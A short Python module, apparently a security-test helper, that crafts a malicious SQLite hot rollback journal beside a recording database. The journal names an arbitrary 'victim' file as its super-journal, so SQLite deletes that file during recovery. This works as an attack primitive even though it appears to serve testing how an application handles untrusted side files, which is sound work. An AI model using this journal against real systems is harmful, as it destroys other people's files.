"""What a stranger may send: side files that are no recorder's."""

from __future__ import annotations

import struct
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")


def super_journal(recording: Path, victim: Path) -> Path:
    """A hot rollback journal beside a sound recording, which names `victim` as its super-journal:
    SQLite deletes that after it has played it back. https://sqlite.org/fileformat.html, 3"""
    database = recording.read_bytes()
    page = int.from_bytes(database[16:18], "big")
    pages = int.from_bytes(database[28:32], "big")
    head = (_MAGIC + struct.pack(">5I", 0, 0, pages, 512, page)).ljust(512, b"\0")
    name = str(victim.absolute()).encode()
    tail = struct.pack(">I", 0x40000000 // page + 1) + name
    tail += struct.pack(">II", len(name), sum(name)) + _MAGIC
    journal = Path(f"{recording}-journal")
    journal.write_bytes(head + tail)
    return journal
